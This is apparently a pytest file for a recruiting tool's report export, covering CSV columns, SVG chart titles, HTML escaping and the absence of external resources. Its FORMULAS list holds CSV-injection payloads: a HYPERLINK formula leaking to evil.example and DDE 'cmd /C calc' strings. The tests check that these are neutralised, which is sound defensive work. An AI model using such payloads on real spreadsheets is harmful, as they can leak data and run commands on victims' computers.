"""The report's files from a summary: CSVs Athena can read, and one self-contained page with four SVG charts."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser

import pytest

from talentpool import spreadsheet
from talentpool.logic.reports.build import Aggregates, build_summary, coverage
from talentpool.models.aggregates import FUNNEL_STEPS, metric_key
from talentpool.models.reports import Period, ReportRequest, ReportSummary
from talentpool.views import report

NOW = datetime(2026, 11, 26, 6, 0, tzinfo=UTC)
D = date(2026, 11, 25)


def summary_of(
    totals: Mapping[str, int] | None = None,
    days: Mapping[date, Mapping[str, int]] | None = None,
    *,
    segments: Mapping[str, str] | None = None,
    sequences: Mapping[str, str] | None = None,
    period: Period = Period.DAY,
) -> ReportSummary:
    return build_summary(
        Aggregates(totals or {}, days or {}, {}),
        coverage(ReportRequest(period=period), now=NOW),
        segment_names=segments or {},
        sequence_names=sequences or {},
    )


def busy() -> ReportSummary:
    totals = {
        metric_key("reached", step, "careers_site"): n for step, n in zip(FUNNEL_STEPS, (90, 60, 30, 9, 2), strict=True)
    }
    totals |= {
        metric_key("reached", step, "referral"): n for step, n in zip(FUNNEL_STEPS, (10, 9, 6, 3, 1), strict=True)
    }
    totals |= {metric_key("segment", "S1"): 12}
    days = {
        D - timedelta(days=n): {
            metric_key("captured", "channel", "careers_site"): 3 + n % 4,
            metric_key("captured", "channel", "referral"): n % 2,
            metric_key("captured", "utm_source", "linkedin"): 2,
            metric_key("email", "sent", "welcome", 0): 10,
            metric_key("email", "delivered", "welcome", 0): 10,
            metric_key("email", "opened", "welcome", 0): 5,
            metric_key("email", "clicked", "welcome", 0): 1,
            metric_key("email", "delivered", "welcome", 1): 4,
            metric_key("email", "opened", "welcome", 1): 1,
        }
        for n in range(30)
    }
    return summary_of(totals, days, segments={"S1": "<b>Senior</b> & Python"}, sequences={"welcome": "Welcome"})


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


# --- CSV ---------------------------------------------------------------------------------------------------------


def test_every_file_is_rendered_and_summary_json_is_the_model() -> None:
    summary = busy()
    files = report.render_files(summary)
    assert set(files) == {"summary.json", "funnel.csv", "sources.csv", "sequences.csv", "report.html"}
    assert ReportSummary.model_validate_json(files["summary.json"]) == summary
    assert json.loads(files["summary.json"])["schema_version"] == 1


def test_funnel_csv_has_one_row_per_scope_and_step() -> None:
    files = report.render_files(busy())
    header = files["funnel.csv"].decode().splitlines()[0]
    assert header == ",".join(spreadsheet.FUNNEL_HEADER)
    parsed = rows(files["funnel.csv"])
    assert len(parsed) == 5 * 3  # overall, careers_site, referral
    overall = [r for r in parsed if r["channel"] == "all"]
    assert [(r["step"], r["step_order"], r["candidates"]) for r in overall][:2] == [
        ("captured", "1", "100"),
        ("confirmed", "2", "69"),
    ]
    assert overall[0]["conversion_from_previous"] == "" and overall[0]["conversion_from_captured"] == "1.0000"
    assert overall[1]["conversion_from_previous"] == "0.6900"
    assert "dt" not in parsed[0]  # the partition, not a column


def test_sources_and_sequences_csv_have_their_documented_columns() -> None:
    files = report.render_files(busy())
    sources = rows(files["sources.csv"])
    assert list(sources[0]) == list(spreadsheet.SOURCES_HEADER)
    linkedin = next(r for r in sources if r["value"] == "linkedin")
    assert (linkedin["dimension"], linkedin["captured_in_period"], linkedin["captured_last_30_days"]) == (
        "utm_source",
        "2",
        "60",
    )
    assert linkedin["captured_all_time"] == "" and linkedin["applied_rate"] == ""  # unknown, so NULL in Athena
    sequences = rows(files["sequences.csv"])
    assert list(sequences[0]) == list(spreadsheet.SEQUENCES_HEADER)
    assert [(r["sequence_id"], r["step"], r["delivered"], r["open_rate"]) for r in sequences] == [
        ("welcome", "0", "300", "0.5000"),
        ("welcome", "1", "120", "0.2500"),
    ]


def test_an_empty_report_still_has_headers() -> None:
    files = report.render_files(summary_of())
    assert files["sequences.csv"].decode() == ",".join(spreadsheet.SEQUENCES_HEADER) + "\n"
    assert files["sources.csv"].decode() == ",".join(spreadsheet.SOURCES_HEADER) + "\n"
    assert len(rows(files["funnel.csv"])) == 5


# --- HTML --------------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """The parts of the page the tests look at: charts with their title and desc, and anything external."""

    def __init__(self) -> None:
        super().__init__()
        self.charts: list[dict[str, str]] = []
        self.stack: list[str] = []
        self.external: list[str] = []
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.stack.append(tag)
        values = dict(attrs)
        if tag == "svg":
            self.charts.append(
                {"id": values.get("id") or "", "title": "", "desc": "", "role": values.get("role") or ""}
            )
        for name in ("src", "href"):
            if values.get(name):
                self.external.append(str(values[name]))

    def handle_endtag(self, tag: str) -> None:
        while self.stack and self.stack.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self.charts and self.stack and self.stack[-1] in ("title", "desc") and "svg" in self.stack:
            self.charts[-1][self.stack[-1]] += data


def parse(summary: ReportSummary) -> tuple[Page, str]:
    html = report.render_html(summary)
    page = Page()
    page.feed(html)
    page.close()
    return page, html


@pytest.mark.parametrize("summary", [busy(), summary_of()], ids=["busy", "empty"])
def test_the_page_has_four_titled_charts_and_needs_nothing_from_the_network(summary: ReportSummary) -> None:
    page, html = parse(summary)

    assert [c["id"] for c in page.charts] == ["chart-funnel", "chart-captures", "chart-conversion", "chart-steps"]
    assert all(c["title"].strip() and c["desc"].strip() and c["role"] == "img" for c in page.charts)
    assert page.external == []
    assert not {"script", "link", "img", "iframe"} & set(page.tags)
    assert "@import" not in html and "url(" not in html
    assert html.startswith("<!doctype html>") and '<html lang="en">' in html


def test_chart_titles_and_descriptions_say_what_they_show() -> None:
    page, _ = parse(busy())
    titles = [c["title"] for c in page.charts]
    assert titles[0] == "Funnel: captured to hired, all time"
    assert titles[1] == "Captures per day by channel, 27 Oct to 25 Nov"
    assert titles[2] == "Conversion rate by source channel, all time"
    assert titles[3] == "Step performance per sequence: open and click rates, last 30 days"
    assert "Captured 100 (100.0% of captured); Confirmed 69 (69.0% of captured)" in page.charts[0]["desc"]
    assert "Referral: 90.0% confirmed, 30.0% applied, 10.0% hired of 10" in page.charts[2]["desc"]
    assert "Welcome Step 1: 50.0% opened, 10.0% clicked" in page.charts[3]["desc"]


def test_names_are_escaped() -> None:
    _, html = parse(busy())
    assert "&lt;b&gt;Senior&lt;/b&gt; &amp; Python" in html and "<b>Senior</b>" not in html


def test_an_empty_report_says_there_is_nothing_yet() -> None:
    page, _ = parse(summary_of())
    text = " ".join(page.text)
    assert "No candidates captured in the 30 days to 25 Nov" in text
    assert "No captured candidates yet" in text and "No sequence emails in the 30 days to 25 Nov" in text


def test_a_weekly_page_names_its_week() -> None:
    summary = summary_of(period=Period.WEEK)
    _, html = parse(summary)
    assert "Talentpool weekly report" in html and "23 November 2026 to 25 November 2026" in html
    assert "Captured 23 Nov to 25 Nov" in html


def test_emails_outside_sequences_are_listed_with_no_sent_count() -> None:
    day = {metric_key("email", "delivered", None, None): 9, metric_key("email", "opened", None, None): 3}
    _, html = parse(summary_of(days={D: day}))
    assert "<td>Emails outside sequences</td><td class=n>n/a</td><td class=n>9</td>" in html


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak","Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_utm_source_that_is_a_formula_reaches_sources_csv_as_text(typed: str) -> None:
    # Given a link whose utm_source someone typed as a spreadsheet formula
    days = {D: {metric_key("captured", "utm_source", typed): 2, metric_key("captured", "channel", "social"): 2}}

    # When the report is written
    files = report.render_files(summary_of(days=days))

    # Then a spreadsheet opening sources.csv shows the text, and runs nothing; numbers stay numbers
    [row] = [r for r in rows(files["sources.csv"]) if r["dimension"] == "utm_source"]
    assert row["value"] == "'" + typed
    assert row["captured_in_period"] == "2"


def test_numbers_and_the_no_value_dash_are_not_touched() -> None:
    from talentpool.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ("-", "-3", "+1.5e3", "-.5", "linkedin", "a=b")] == [
        "-",
        "-3",
        "+1.5e3",
        "-.5",
        "linkedin",
        "a=b",
    ]
    assert [safe_cell(v) for v in ("=1", "@x", "-x", "+x", "\tx", "\rx", "--1")] == [
        "'=1",
        "'@x",
        "'-x",
        "'+x",
        "'\tx",
        "'\rx",
        "'--1",
    ]
